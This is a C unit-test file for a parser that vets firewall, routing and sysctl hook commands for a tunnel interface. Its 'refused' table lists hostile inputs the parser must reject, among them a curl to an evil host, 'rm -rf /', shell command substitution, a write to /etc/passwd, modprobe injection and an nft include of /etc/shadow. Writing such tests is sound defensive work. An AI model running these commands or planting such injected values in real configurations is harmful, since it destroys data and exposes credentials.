/* hooks_test - which commands of PostUp and PreDown are taken, which refused and with which word; and
 * running them.  Needs no rights. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "net/hooks.h"

/* The words of all commands, "|" between words and "\n" after commands. */
static void join(struct buf *out, const struct hooks *h)
{
	size_t i, k;

	for (i = 0; i < h->n; i++)
		for (k = 0; h->commands[i].argv[k]; k++)
			buf_printf(out, "%s%s", h->commands[i].argv[k],
				   h->commands[i].argv[k + 1] ? "|" : "\n");
}

static void taken(void **state UNUSED)
{
	static const struct {
		const char *text, *want;
	} rows[] = {
		{ "", "" },
		{ " ; ;; ", "" },
		/* the examples of the references */
		{ "iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j "
		  "MASQUERADE",
		  "iptables|-A|FORWARD|-i|wg0|-j|ACCEPT\n"
		  "iptables|-t|nat|-A|POSTROUTING|-o|eth0|-j|MASQUERADE\n" },
		{ "iptables -t nat -A PREROUTING -i eth0 -p tcp --dport 8080 -j DNAT "
		  "--to-destination 10.0.0.2:80",
		  "iptables|-t|nat|-A|PREROUTING|-i|eth0|-p|tcp|--dport|8080|-j|DNAT|"
		  "--to-destination|10.0.0.2:80\n" },
		{ "iptables -t nat -D POSTROUTING -o eth0 -j MASQUERADE",
		  "iptables|-t|nat|-D|POSTROUTING|-o|eth0|-j|MASQUERADE\n" },
		/* what people write */
		{ "ip6tables -w 5 -I FORWARD 1 ! -i %i -m conntrack --ctstate RELATED,ESTABLISHED "
		  "-j ACCEPT",
		  "ip6tables|-w|5|-I|FORWARD|1|!|-i|wg0|-m|conntrack|--ctstate|RELATED,ESTABLISHED|"
		  "-j|ACCEPT\n" },
		{ "iptables -t mangle -A FORWARD -p tcp --tcp-flags SYN,RST SYN -j TCPMSS "
		  "--clamp-mss-to-pmtu",
		  "iptables|-t|mangle|-A|FORWARD|-p|tcp|--tcp-flags|SYN,RST|SYN|-j|TCPMSS|"
		  "--clamp-mss-to-pmtu\n" },
		{ "iptables -A INPUT -m comment --comment 'from the tunnel; really' -j ACCEPT",
		  "iptables|-A|INPUT|-m|comment|--comment|from the tunnel; really|-j|ACCEPT\n" },
		{ "iptables -N ours_%i;iptables -F ours_%i",
		  "iptables|-N|ours_wg0\niptables|-F|ours_wg0\n" },
		{ "nft add table inet nat_%i; nft add chain inet nat_%i post '{ type nat hook "
		  "postrouting priority 100 ; policy accept ; }'",
		  "nft|add|table|inet|nat_wg0\n"
		  "nft|add|chain|inet|nat_wg0|post|{ type nat hook postrouting priority 100 ; "
		  "policy "
		  "accept ; }\n" },
		{ "nft add rule inet nat_%i post oifname eth0 ip saddr 10.0.0.0/24 masquerade",
		  "nft|add|rule|inet|nat_wg0|post|oifname|eth0|ip|saddr|10.0.0.0/24|masquerade\n" },
		{ "nft insert rule ip filter FORWARD iifname \"%i\" tcp dport { 80, 443 } accept",
		  "nft|insert|rule|ip|filter|FORWARD|iifname|wg0|tcp|dport|{|80,|443|}|accept\n" },
		{ "ip route add 10.9.0.0/16 via 10.8.0.2 dev %i table 100 metric 5",
		  "ip|route|add|10.9.0.0/16|via|10.8.0.2|dev|wg0|table|100|metric|5\n" },
		{ "ip -6 route replace blackhole fd00::/8; ip route del default table 100",
		  "ip|-6|route|replace|blackhole|fd00::/8\nip|route|del|default|table|100\n" },
		{ "ip rule add from 10.8.0.0/24 lookup 100 priority 100",
		  "ip|rule|add|from|10.8.0.0/24|lookup|100|priority|100\n" },
		{ "ip rule add not fwmark 0xca6c table 51820; ip rule add table main "
		  "suppress_prefixlength 0",
		  "ip|rule|add|not|fwmark|0xca6c|table|51820\n"
		  "ip|rule|add|table|main|suppress_prefixlength|0\n" },
		{ "ip addr add 10.8.0.9/32 dev %i; ip link set %i mtu 1380 up",
		  "ip|addr|add|10.8.0.9/32|dev|wg0\nip|link|set|wg0|mtu|1380|up\n" },
		{ "sysctl -w net.ipv4.ip_forward=1; sysctl -q -w net.ipv4.conf.%i.rp_filter=0",
		  "sysctl|-w|net.ipv4.ip_forward=1\nsysctl|-q|-w|net.ipv4.conf.wg0.rp_filter=0\n" },
	};
	struct hooks h;
	struct err e;
	size_t i;

	for (i = 0; i < ARRAY_LEN(rows); i++) {
		AUTO(buf_done) struct buf got = { 0 };

		if (hooks_parse(&h, str_of(rows[i].text), "wg0", STR(""), &e))
			fail_msg("%s: %s", rows[i].text, e.msg);
		join(&got, &h);
		assert_string_equal(buf_view(&got).p, rows[i].want);
		hooks_done(&h);
	}
}

static void refused(void **state UNUSED)
{
	static const struct {
		const char *text, *word, *why;
	} rows[] = {
		{ "curl http://evil/x", "curl", "another program" },
		{ "sh -c 'id'", "sh", "a shell" },
		{ "/usr/sbin/iptables -L", "/usr/sbin/iptables", "a path" },
		{ "iptables -A FORWARD -j ACCEPT && id", "&", "a second command" },
		{ "iptables -A FORWARD -j ACCEPT | id", "|", "a pipe" },
		{ "iptables -A FORWARD -j ACCEPT > /etc/passwd", ">", "a redirection" },
		{ "iptables -A FORWARD -i $(id) -j ACCEPT", "$", "a substitution" },
		{ "iptables -A FORWARD -i `id` -j ACCEPT", "`", "the older one" },
		{ "iptables -A FORWARD -m comment --comment \"$(id)\" -j ACCEPT", "$",
		  "in quotes" },
		{ "iptables -A FORWARD\n-j ACCEPT", "\\x0a", "a newline" },
		{ "iptables -A FORWARD -i %n -j ACCEPT", "%", "%i is the only one" },
		{ "iptables -A FORWARD -m comment --comment 'open", "not closed", "a quote" },
		{ "iptables -A FORWARD -j ACCEPT; rm -rf /", "command 2", "the second command" },
		{ "iptables -F", "ends too early", "would empty all chains" },
		{ "iptables -F INPUT", "INPUT", "a chain of everybody" },
		{ "iptables -P FORWARD ACCEPT", "-P", "a policy" },
		{ "iptables -t security -A INPUT", "security", "a table that is not offered" },
		{ "iptables --modprobe=/tmp/x -A INPUT", "--modprobe", "runs a program" },
		{ "iptables -A INPUT -j ACCEPT --modprobe /tmp/x", "--modprobe",
		  "the same, later" },
		{ "iptables -A INPUT -m bpf --object-pinned /x", "--object-pinned", "a file" },
		{ "iptables -A INPUT -i --modprobe", "--modprobe", "an option as a value" },
		{ "iptables -A INPUT -m /tmp/x.so", "/tmp/x.so", "a module by its path" },
		{ "iptables -A INPUT -s evil.example -j ACCEPT", "evil.example", "asks the DNS" },
		{ "iptables-restore /tmp/x", "iptables-restore", "another program" },
		{ "nft -f /tmp/x", "-f", "a file" },
		{ "nft flush ruleset", "flush", "everybody's rules" },
		{ "nft delete table inet qanat_wg0", "qanat_wg0", "ours" },
		{ "nft add rule inet t c 'accept ; flush ruleset'", "accept ; flush",
		  "two statements" },
		{ "nft add chain inet t c '{ type nat hook input priority 0 ; } ; flush ruleset'",
		  "flush", "after the block" },
		{ "nft add chain inet t c '{ include /etc/shadow ; }'", "include", "a file" },
		{ "nft add chain inet t c '{ type nat hook input priority 0; flush ; }'", "quoted",
		  "a ';' within a word" },
		{ "nft add rule inet t c -f /tmp/x", "-f", "a file, as an option among the words" },
		{ "nft list ruleset", "list", "another verb" },
		{ "ip -batch /tmp/x", "-batch", "a file" },
		{ "ip netns exec x id", "netns", "runs a program" },
		{ "ip link add x type dummy", "add", "another verb" },
		{ "ip link set wg0 netns 1", "netns", "another option" },
		{ "ip vrf exec x id", "vrf", "runs a program" },
		{ "ip route add evil.example", "evil.example", "no address" },
		{ "ip route flush table main", "flush", "everybody's routes" },
		{ "ip rule del from all lookup", "ends too early", "a value missing" },
		{ "sysctl -p /tmp/x", "-p", "a file" },
		{ "sysctl -w kernel.core_pattern=1", "kernel", "not the network" },
		{ "sysctl -w net.ipv4.ip_forward=|id", "|", "no number" },
		{ "sysctl -w net.ipv4.ip_forward", "ip_forward", "no value" },
		{ "sysctl -w net./../kernel/core_pattern=1", "core_pattern", "a way out" },
		{ "sysctl -w net...kernel.x=1", "net...", "empty parts" },
	};
	struct hooks h;
	struct err e;
	size_t i;

	for (i = 0; i < ARRAY_LEN(rows); i++) {
		e = (struct err){ 0 };
		if (hooks_parse(&h, str_of(rows[i].text), "wg0", STR(""), &e) != ERR_INVALID)
			fail_msg("taken: %s (%s)", rows[i].text, rows[i].why);
		if (!strstr(e.msg, rows[i].word) || strchr(e.msg, '\n'))
			fail_msg("%s: \"%s\" names no \"%s\"", rows[i].why, e.msg, rows[i].word);
	}
	assert_int_equal(hooks_parse(&h, STR("ip link set %i up"), "a;b", STR(""), &e),
			 ERR_INVALID);
}

static void limits(void **state UNUSED)
{
	AUTO(buf_done) struct buf long_text = { 0 }, many = { 0 }, wide = { 0 };
	struct hooks h;
	struct err e;
	int i;

	for (i = 0; i <= HOOKS_COMMANDS_MAX; i++)
		buf_z(&many, "ip link set %i up;");
	assert_int_equal(hooks_parse(&h, buf_view(&many), "wg0", STR(""), &e), ERR_RANGE);
	for (i = 0; i <= HOOKS_WORDS_MAX; i++)
		buf_z(&wide, "ip ");
	assert_int_equal(hooks_parse(&h, buf_view(&wide), "wg0", STR(""), &e), ERR_RANGE);
	for (i = 0; i <= HOOKS_TEXT_MAX; i++)
		buf_char(&long_text, ' ');
	assert_int_equal(hooks_parse(&h, buf_view(&long_text), "wg0", STR(""), &e), ERR_RANGE);
}

static void allowed_by_the_file(void **state UNUSED)
{
	const struct str file = STR("# ours\n/bin/true %i\n  /bin/false  \necho x\n");
	struct hooks h;
	struct err e;

	if (hooks_parse(&h, STR("/bin/true %i; ip link set %i up"), "wg0", file, &e))
		fail_msg("%s", e.msg);
	assert_int_equal(h.n, 2);
	assert_string_equal(h.commands[0].argv[1], "wg0");
	hooks_done(&h);
	assert_int_equal(hooks_parse(&h, STR("/bin/true wg0"), "wg0", file, &e), ERR_INVALID);
	assert_int_equal(hooks_parse(&h, STR("/bin/true"), "wg0", file, &e), ERR_INVALID);
	assert_int_equal(hooks_parse(&h, STR("echo x"), "wg0", file, &e), ERR_INVALID);
	assert_non_null(strstr(e.msg, "absolute"));
}

static void running(void **state UNUSED)
{
	const struct str file =
		STR("/bin/true\n/bin/false\n/bin/cat /nonexistent/a\n/bin/nothere\n");
	static const struct {
		const char *text, *message;
		bool goes_on;
	} rows[] = {
		{ "/bin/true; /bin/true", NULL, false },
		{ "/bin/true; /bin/false", "command 2: /bin/false failed with status 1", false },
		{ "/bin/cat /nonexistent/a; /bin/true", "No such file", false },
		{ "/bin/false; /bin/cat /nonexistent/a", "command 1: /bin/false", true },
		{ "/bin/nothere", "not installed", false },
	};
	struct hooks h;
	struct err e;
	size_t i;

	for (i = 0; i < ARRAY_LEN(rows); i++) {
		e = (struct err){ 0 };
		if (hooks_parse(&h, str_of(rows[i].text), "wg0", file, &e))
			fail_msg("%s", e.msg);
		if ((hooks_run(&h, rows[i].goes_on, &e) == ERR_OK) != !rows[i].message)
			fail_msg("%s: %s", rows[i].text, e.msg);
		if (rows[i].message && !strstr(e.msg, rows[i].message))
			fail_msg("%s: %s", rows[i].text, e.msg);
		hooks_done(&h);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(taken),   cmocka_unit_test(refused),
		cmocka_unit_test(limits),  cmocka_unit_test(allowed_by_the_file),
		cmocka_unit_test(running),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
